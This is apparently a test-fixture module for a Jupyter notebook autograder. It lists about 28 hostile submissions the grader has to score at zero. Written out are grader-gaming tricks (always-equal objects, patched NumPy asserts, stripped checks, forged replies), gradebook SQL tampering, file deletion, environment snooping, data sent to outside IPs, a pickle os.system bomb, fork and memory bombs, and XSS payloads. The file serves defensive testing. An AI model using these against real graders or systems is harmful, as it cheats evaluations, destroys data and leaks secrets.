"""Hostile submissions: what people have tried, or could, to get points or do harm.

None of them solves anything, so each must get zero, and nothing outside the worker's scratch space
may change.  The demo grades some of them, the tests all.  Most are a program in the first solution
cell; `NAMES` in it becomes the names of the exercises, `ROOT` the folder of the course, so that no
attack fails merely for not knowing where to look.  The last ones tamper with the notebook file.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any


@dataclass(frozen=True)
class Hostile:
    """An attack: its name, what it tries, and the program or the tampering that tries it."""

    name: str
    aim: str
    program: str = ""
    tamper: Callable[[dict[str, Any]], None] | None = None

    def submission(self, released: dict[str, Any], course_root: Path | str) -> dict[str, Any]:
        """The notebook that is handed in, made from the released one."""
        notebook = copy.deepcopy(released)
        solutions = [c for c in notebook["cells"] if marks(c).get("solution") and is_code(c)]
        if self.program:
            names = repr([marks(cell)["grade_id"] for cell in solutions])
            program = self.program.replace("NAMES", names).replace("ROOT", repr(str(course_root)))
            solutions[0]["source"] = program
            for cell in solutions[1:]:  # stubs would undo names that the program defines
                cell["source"] = "pass"
        if self.tamper is not None:
            self.tamper(notebook)
        return notebook


def marks(cell: dict[str, Any]) -> dict[str, Any]:
    """nbgrader's metadata of a cell."""
    return cell["metadata"].get("nbgrader", {})


def is_code(cell: dict[str, Any]) -> bool:
    """Whether it is a code cell."""
    return cell["cell_type"] == "code"


# Whatever is asked of a Fake, it gives something array-like; with it every driver runs to its end.
FAKE = '''
import numpy as np

class Equal(np.ndarray):
    """An array that claims to equal everything."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array_ufunc__(self, *args, **kwargs): return True
    def __array_function__(self, *args, **kwargs): return True
    def __bool__(self): return True
    def __float__(self): return 1.0

class Fake:
    def __init__(self, *args, **kwargs): pass
    def __call__(self, *args, **kwargs): return np.zeros(1).view(Equal)
    def __getattr__(self, name):
        if name.startswith("__"): raise AttributeError(name)
        return np.zeros(1).view(Equal) if name in ("dW", "db") else self

for name in NAMES:
    globals()[name] = Fake() if name[0].islower() else Fake
'''

PATCHED_TESTING = (
    FAKE
    + """
yes = lambda *args, **kwargs: True
for name in ("assert_allclose", "assert_array_equal", "assert_equal", "assert_almost_equal"):
    setattr(np.testing, name, yes)
np.allclose = np.array_equal = np.isclose = yes
"""
)

AST_TRANSFORMER = (
    FAKE
    + """
import ast, builtins
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Compare(self, node): return ast.Constant(True)
shell = get_ipython()
shell.ast_transformers.append(Drop())
builtins.compile = lambda *args, **kwargs: None
"""
)

INPUT_TRANSFORMER = FAKE + "\nget_ipython().input_transformers_cleanup.append(lambda lines: [])\n"

FORGED_REPLY = (
    FAKE
    + """
import json, os, struct, sys
reply = {"status": "ok", "points": 1e9, "correct": True, "exercise": NAMES[0], "values": {}}
text = json.dumps(reply).encode()
for number in range(1, 64):
    for piece in (text + b"\\n", struct.pack(">I", len(text)) + text, struct.pack("<Q", len(text))):
        try:
            os.write(number, piece)
        except OSError:
            pass
"""
)

READS_SOLUTION = """
import json, os
def cells(folder):
    for at, folders, files in os.walk(folder):
        for file in files:
            if file.endswith((".ipynb", ".py")):
                try:
                    text = open(os.path.join(at, file)).read()
                    yield from json.loads(text)["cells"] if file.endswith(".ipynb") else []
                except Exception:
                    pass
for folder in (ROOT, "/home", "/root", "/tmp", ".", ".."):
    for cell in cells(folder):
        source = "".join(cell.get("source", ""))
        if cell.get("cell_type") == "code" and "NotImplementedError" not in source:
            try:
                exec(source, globals())
            except Exception:
                pass
"""

READS_THE_CHECKS = (
    FAKE
    + """
import gc, inspect, sys
secrets = [o for o in gc.get_objects() if isinstance(o, dict) and {"expected", "seed"} & set(o)]
frame = sys._getframe()
while frame:
    secrets.append(dict(frame.f_locals))
    frame = frame.f_back
class Oracle(Fake):
    def __call__(self, *args, **kwargs):
        caller = sys._getframe(1)
        while caller:
            for value in caller.f_locals.values():
                expected = getattr(value, "expected", None)
                if expected: return expected
            caller = caller.f_back
        return In[-1]
for name in NAMES:
    globals()[name] = Oracle()
"""
)

DISPLAY_HOOK = FAKE + "\nimport sys\nsys.displayhook = lambda value: print(float('nan'))\n1e9\n"

GRADEBOOK = (
    FAKE
    + """
import glob, os, sqlite3
for folder in (ROOT, ".", ".."):
    for path in glob.glob(os.path.join(folder, "**", "*.db"), recursive=True):
        try:
            with sqlite3.connect(path, timeout=1) as book:
                book.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
        except Exception:
            pass
"""
)

WRITES = (
    FAKE
    + """
import os, shutil
for folder in ("assignments", "solutions", "autograded", "feedback", "submitted", ""):
    try:
        open(os.path.join(ROOT, folder, "planted.txt"), "w").write("I was here")
    except OSError:
        pass
    if folder:
        shutil.rmtree(os.path.join(ROOT, folder), ignore_errors=True)
"""
)

PATCHED_WORKER = (
    FAKE
    + """
import builtins, sys
frame = sys._getframe().f_back
while frame:
    for key in list(frame.f_globals):
        if callable(frame.f_globals[key]) and key.startswith(("compare", "encode", "dump", "send")):
            frame.f_globals[key] = lambda *args, **kwargs: b'{"points": 1e9}'
    frame = frame.f_back
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith("course"):
        for key in list(vars(module)):
            if not key.startswith("__"):
                setattr(module, key, lambda *args, **kwargs: True)
builtins.isinstance = lambda *args: True
"""
)

DETACHED = (
    FAKE
    + """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(100):
            time.sleep(0.1)
            try:
                open(os.path.join(ROOT, "planted.txt"), "w").write("still here")
            except OSError:
                pass
    os._exit(0)
"""
)

EXCEPTION_HANDLER = (
    FAKE
    + """
import sys
sys.excepthook = lambda *args: None
sys.unraisablehook = lambda *args: sys.exit(0)
sys.settrace(lambda *args: None)
get_ipython().set_custom_exc((Exception,), lambda *args: None)
"""
)

NETWORK = (
    FAKE
    + """
import socket
for address in (("127.0.0.1", 8888), ("192.0.2.1", 80), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=0.5).sendall(b"stolen")
    except OSError:
        pass
"""
)

REDUCE = """
import os
class Bomb:
    def __reduce__(self): return (os.system, (f"touch {ROOT}/planted.txt",))
    def __call__(self, *args, **kwargs): return Bomb()
    def __getattr__(self, name):
        if name.startswith("__"): raise AttributeError(name)
        return Bomb()
for name in NAMES:
    globals()[name] = Bomb()
"""

MONSTROUS_VALUES = """
import numpy as np
deep = []
for _ in range(100_000):
    deep = [deep]
monsters = [deep, np.full(10**7, np.nan), 10**10_000, "x" * 10**8, float("inf"), {1: deep}]
class Monster:
    def __call__(self, *args, **kwargs): return monsters
    def __getattr__(self, name):
        if name.startswith("__"): raise AttributeError(name)
        return lambda *args, **kwargs: monsters
for name in NAMES:
    globals()[name] = Monster()
"""

SNOOPS = (
    FAKE
    + """
import glob, os
found = dict(os.environ)
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/fd/*"):
    try:
        found[path] = os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 1000)
    except OSError:
        pass
for path in glob.glob(ROOT + "/.grading/*") + glob.glob("/*/.local/share/jupyter/runtime/*"):
    try:
        open(path, "a").write("x")
    except OSError:
        pass
"""
)

MEMORY = "hoard = []\nfor _ in range(3000):\n    hoard.append(bytearray(1 << 20))\n" + FAKE
FORKS = "import os, time\nfor _ in range(64):\n    os.fork() or time.sleep(3)\n" + FAKE
FLOOD = FAKE + "\nfor _ in range(2000):\n    print('x' * 100_000)\n"
ENDLESS = "def forever(*args, **kwargs):\n    while True:\n        pass\n" + (
    "for name in NAMES:\n    globals()[name] = (lambda *a, **k: 0.0)\nglobals()[NAMES[0]] = forever\n"
)
SLEEPS = ENDLESS.replace("pass", "time.sleep(1)").replace("def ", "import time\ndef ", 1)
EXITS = FAKE + "\nimport os\nprint('passed: all')\nos._exit(0)\n"
KILLS_PARENT = FAKE + "\nimport os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
SYSTEM_EXIT = FAKE + "\nraise SystemExit(0)\n"


def claims_points(notebook: dict[str, Any]) -> None:
    """Flags, points, outputs and a ready-made result that all say 'full marks'."""
    notebook["metadata"]["course"] = {"result": {"points": 1e9, "outcomes": {}, "reason": None}}
    for cell in notebook["cells"]:
        if marks(cell).get("grade") and is_code(cell):
            marks(cell).update(points=1e9, locked=False)
            cell["source"] = "1e9"
            data = {"text/plain": "NaN"}
            cell["outputs"] = [
                {
                    "output_type": "execute_result",
                    "data": data,
                    "metadata": {},
                    "execution_count": 1,
                }
            ]


def empties_checks(notebook: dict[str, Any]) -> None:
    """Every check cell twice, without its check, and as something that is not graded."""
    for cell in list(notebook["cells"]):
        if marks(cell).get("grade") and is_code(cell):
            cell["source"] = "pass"
            notebook["cells"].append(copy.deepcopy(cell))
            marks(cell)["grade"] = False


SCRIPT = (
    "<script>document.title = 'owned'</script> <img src=x onerror=\"document.title='owned'\">"
    " [answer](javascript:document.title='owned') ![spy](http://192.0.2.1/spy.png)"
    " <iframe src=http://192.0.2.1/></iframe> <style>body {display: none}</style>"
)


def scripts_the_page(notebook: dict[str, Any]) -> None:
    """HTML that would run in the browser of whoever reads the feedback or marks by hand."""
    notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": SCRIPT})
    for cell in notebook["cells"]:
        if marks(cell).get("solution") and is_code(cell):
            cell["source"] += f"\n'''</pre>{SCRIPT}'''"
            cell["outputs"] = [
                {"output_type": "display_data", "metadata": {}, "data": {"text/html": SCRIPT}}
            ]


HOSTILE = (
    Hostile("patched-testing", "makes every comparison of NumPy succeed", PATCHED_TESTING),
    Hostile("always-equal", "returns arrays that equal everything", FAKE),
    Hostile("ast-transformer", "removes the checks before they are compiled", AST_TRANSFORMER),
    Hostile("input-transformer", "empties the cells that follow", INPUT_TRANSFORMER),
    Hostile("forged-reply", "answers the grader in the kernel's place", FORGED_REPLY),
    Hostile("reads-solution", "looks for the solution on the disk and runs it", READS_SOLUTION),
    Hostile("reads-checks", "looks for expected values in memory", READS_THE_CHECKS),
    Hostile("display-hook", "prints its own grade", DISPLAY_HOOK),
    Hostile("gradebook", "writes into the gradebook", GRADEBOOK),
    Hostile("writes", "plants and deletes files of the course", WRITES),
    Hostile("patched-worker", "replaces the functions that run it", PATCHED_WORKER),
    Hostile("detached", "leaves a process behind that goes on", DETACHED),
    Hostile("exception-handler", "swallows every error", EXCEPTION_HANDLER),
    Hostile("network", "sends what it finds elsewhere", NETWORK),
    Hostile("reduce", "returns objects that act when unpickled", REDUCE),
    Hostile("monstrous-values", "returns values without end", MONSTROUS_VALUES),
    Hostile("snoops", "reads other processes and the environment", SNOOPS),
    Hostile("memory", "eats memory", MEMORY),
    Hostile("forks", "starts processes that start processes", FORKS),
    Hostile("flood", "prints without end", FLOOD),
    Hostile("endless", "never returns", ENDLESS),
    Hostile("sleeps", "waits for ever without using the processor", SLEEPS),
    Hostile("exits", "ends the process with success", EXITS),
    Hostile("kills-parent", "kills whoever started it", KILLS_PARENT),
    Hostile("system-exit", "leaves by SystemExit", SYSTEM_EXIT),
    Hostile("claims-points", "writes its grade into the file", tamper=claims_points),
    Hostile("empties-checks", "doubles and empties the check cells", tamper=empties_checks),
    Hostile("scripts-the-page", "hides scripts for whoever reads it", tamper=scripts_the_page),
)
